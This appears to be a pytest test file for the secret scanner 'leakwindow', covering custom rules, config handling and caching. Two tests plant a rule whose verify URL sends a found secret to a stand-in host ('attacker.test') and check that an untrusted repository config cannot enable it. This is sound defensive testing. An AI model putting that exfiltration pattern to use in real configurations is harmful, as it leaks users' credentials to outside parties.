"""`leakwindow rules list/test`, and user rules from --rules and .leakwindow.toml."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from git_builders import PYTHON_ENGINE
from scenario_support import build, finding_for, scan_json

from scanner.cli.app import main

USER_RULE = """
[[rule]]
id = "acme-token"
title = "Acme token"
severity = "high"
keywords = ["acme_"]
pattern = '''\\b(acme_[a-z0-9]{20})\\b'''
remediation = "Rotate it in the Acme console."
[rule.examples]
match = ["t = acme_q8w7e6r5t4y3u2i1o0pz"]
ignore = ["t = acme_short"]
"""


def test_rules_list_shows_at_least_200_rules_with_families(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["rules", "list", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) >= 200
    assert len({row["id"] for row in rows}) == len(rows)
    assert {"id", "title", "severity", "family"} <= set(rows[0])
    assert len({row["family"] for row in rows}) >= 5


def test_rules_test_passes_a_rule_file_whose_examples_hold(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # (the built-in pack's examples are proven rule by rule in test_rule_examples.py; running
    # `rules test` over all of them again here cost ~8 s of the suite)
    rule_file = tmp_path / "mine.toml"
    rule_file.write_text(USER_RULE)
    assert main(["rules", "test", str(rule_file)]) == 0
    assert "1 rules, 2 examples, 0 failure(s)" in capsys.readouterr().out


def test_rules_test_reports_a_failing_user_example(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rule_file = tmp_path / "mine.toml"
    rule_file.write_text(USER_RULE.replace('"t = acme_short"', '"t = acme_q8w7e6r5t4y3u2i1o0pz"'))
    assert main(["rules", "test", str(rule_file)]) == 1
    assert "FAIL acme-token: examples.ignore[0]" in capsys.readouterr().out


def test_rules_test_reports_a_match_example_that_is_not_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rule_file = tmp_path / "mine.toml"
    broken = USER_RULE.replace(
        'match = ["t = acme_q8w7e6r5t4y3u2i1o0pz"]',
        'match = ["t = acme_q8w7e6r5t4y3u2i1o0pz", "t = acme_TOO_SHORT"]',
    )
    rule_file.write_text(broken)
    assert main(["rules", "test", str(rule_file)]) == 1
    out = capsys.readouterr().out
    assert "FAIL acme-token: examples.match[1] was not found" in out
    assert "1 rules, 3 examples, 1 failure(s)" in out


def _commit_file(repo: Path, name: str, text: str) -> None:
    import subprocess

    (repo / name).write_text(text)
    env = ["-c", "user.name=t", "-c", "user.email=t@t.test"]
    subprocess.run(["git", "-C", str(repo), "add", name], check=True)
    subprocess.run(["git", "-C", str(repo), *env, "commit", "-qm", name], check=True)


def test_user_rule_from_config_finds_its_token(tmp_path: Path) -> None:
    fx = build("incident", tmp_path)
    (fx.path / "acme.toml").write_text(USER_RULE)
    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
    _commit_file(fx.path, "client.py", 'TOKEN = "acme_z9x8c7v6b5n4m3l2k1j0"\n')
    _, report = scan_json(fx.path, tmp_path, *PYTHON_ENGINE)
    finding_for(report, "acme_z9x8c7v6b5n4m3l2k1j0")


def test_config_can_disable_a_rule_and_exclude_paths(tmp_path: Path) -> None:
    fx = build("incident", tmp_path)
    (fx.path / ".leakwindow.toml").write_text('[rules]\ndisable = ["xai-api-key"]\n')
    code, report = scan_json(fx.path, tmp_path, *PYTHON_ENGINE)
    assert code == 0 and report["findings"] == []
    (fx.path / ".leakwindow.toml").write_text('[paths]\nexclude = ["config/"]\n')
    code, report = scan_json(fx.path, tmp_path)
    assert code == 0 and report["findings"] == []


def test_repo_config_cannot_add_a_verify_endpoint(tmp_path: Path) -> None:
    from scanner.rules.config import find_config, load_pack

    fx = build("incident", tmp_path)
    hostile = USER_RULE.replace(
        'remediation = "Rotate it in the Acme console."',
        'remediation = "Rotate it in the Acme console."\n'
        'verify = { url = "https://attacker.test/?k={secret}" }',
    )
    (fx.path / "acme.toml").write_text(hostile)
    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
    config = find_config(fx.path, None)
    assert load_pack(config, []).by_id["acme-token"].verify is None
    trusted = load_pack(config, [], trust_config=True)
    assert trusted.by_id["acme-token"].verify is not None
    from_command_line = load_pack(find_config(None, None), [fx.path / "acme.toml"])
    assert from_command_line.by_id["acme-token"].verify is not None


def test_generic_rules_skip_lock_files_and_vendored_code_but_provider_rules_do_not(
    tmp_path: Path,
) -> None:
    fx = build("incident", tmp_path)
    generic_value = "Qw8rT5yU2iO9pA3sD6fG1hJ4"
    token = fx.secrets["xai"]
    (fx.path / "node_modules" / "lib").mkdir(parents=True)
    _commit_file(fx.path, "node_modules/lib/conf.py", f'db_secret = "{generic_value}"\n')
    _commit_file(fx.path, "app.py", f'db_secret = "{generic_value}x"\n')
    _commit_file(fx.path, "yarn.lock", f'KEY = "{token}"\n')
    _, report = scan_json(fx.path, tmp_path)
    finding_for(report, generic_value + "x")  # the same shape outside noise paths is found
    assert not any(
        loc["path"].startswith("node_modules/")
        for f in report["findings"]
        for loc in f["locations"]
    )
    paths = {loc["path"] for loc in finding_for(report, token)["locations"]}
    assert "yarn.lock" in paths  # a provider token in a lock file is still a leak
    (fx.path / ".leakwindow.toml").write_text("[paths]\nnoise = []\n")
    _, everything = scan_json(fx.path, tmp_path)
    finding_for(everything, generic_value)


def test_a_symlinked_config_is_ignored(tmp_path: Path) -> None:
    fx = build("incident", tmp_path)
    outside = tmp_path / "elsewhere.toml"
    outside.write_text('[rules]\ndisable = ["xai-api-key"]\n')
    (fx.path / ".leakwindow.toml").symlink_to(outside)
    code, report = scan_json(fx.path, tmp_path)
    assert code == 1
    finding_for(report, fx.secrets["xai"])


def test_the_rule_pack_cache_never_serves_a_trusted_pack_to_an_untrusted_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from scanner.cache.rule_pack import load_pack_cached
    from scanner.rules.config import find_config

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("LEAKWINDOW_NO_CACHE", raising=False)
    fx = build("incident", tmp_path)
    (fx.path / "acme.toml").write_text(
        USER_RULE.replace(
            'remediation = "Rotate it in the Acme console."',
            'remediation = "Rotate it in the Acme console."\n'
            'verify = { url = "https://attacker.test/?k={secret}" }',
        )
    )
    (fx.path / ".leakwindow.toml").write_text('[rules]\nextra = ["acme.toml"]\n')
    config = find_config(fx.path, None)
    trusted_cli = load_pack_cached(find_config(None, None), [(fx.path / "acme.toml").resolve()])
    assert trusted_cli.by_id["acme-token"].verify is not None
    for _ in range(2):  # second round comes from the cache
        assert load_pack_cached(config, []).by_id["acme-token"].verify is None
    assert load_pack_cached(config, [], trust_config=True).by_id["acme-token"].verify is not None
